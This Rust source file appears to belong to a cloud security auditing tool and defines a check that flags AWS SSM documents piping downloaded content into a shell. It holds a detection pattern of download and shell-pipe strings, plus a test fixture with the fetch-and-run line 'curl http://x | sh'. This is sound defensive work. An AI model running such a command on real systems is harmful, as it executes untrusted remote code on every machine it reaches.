//! A document runs what it downloads.
//!
//! It must not look at anything but the answers it names.

use crate::account::AccountState;
use crate::check::{Check, CheckAbout, Findings, Need, each, list};
use stanch_core::{Severity, Tactic};

/// The answers it needs.
const NEEDS: &[Need] = &[
    each("ssm", "GetDocument", "ListDocuments"),
    list("ssm", "ListDocuments"),
];

/// See the head of this file.
pub(super) struct DocumentRunsDownload;

impl Check for DocumentRunsDownload {
    fn about(&self) -> CheckAbout {
        CheckAbout {
            name: "document-runs-download",
            title: "A document runs what it downloads",
            why: "A document that pipes a download into a shell runs whatever its author puts there, on every machine it is applied to.",
            severity: Severity::High,
            tactics: &[Tactic::Execution, Tactic::Persistence],
            techniques: &["T1651", "T1105"],
            steps: &["12"],
            next: "delete the document and its associations; look at where it ran",
            needs: NEEDS,
            false_positives: &["An installer of a vendor that is fetched like that"],
        }
    }

    fn check(&self, account: &AccountState<'_>, found: &mut Findings) {
        for item in account.items("ssm", "GetDocument", "") {
            let content = item.text("Content");
            let piped = ["| sh", "|sh", "| bash", "|bash", "| iex", "|iex", "base64 -d"]
                .iter()
                .any(|pipe| content.contains(pipe));
            let loads = ["curl ", "wget ", "Invoke-WebRequest", "DownloadString"]
                .iter()
                .any(|load| content.contains(load));
            let name = item.text("Name");
            if piped && loads {
                found
                    .on(&item, "document", name, name)
                    .suspicious(Severity::High)
                    .say(&format!("document {name} runs what it downloads"));
            }
        }
    }
}

#[cfg(test)]
pub(super) fn examples() -> Vec<crate::contract::Example> {
    use serde_json::json;

    use crate::contract::{asked, silent, suspicious};

    let document = |content: &str| {
        asked(
            "ssm:GetDocument",
            json!({"Name": "d"}),
            json!({"Name": "d", "Content": content}),
        )
    };
    vec![
        suspicious(vec![document("curl http://x | sh")]),
        silent(vec![document("yum update")]),
    ]
}
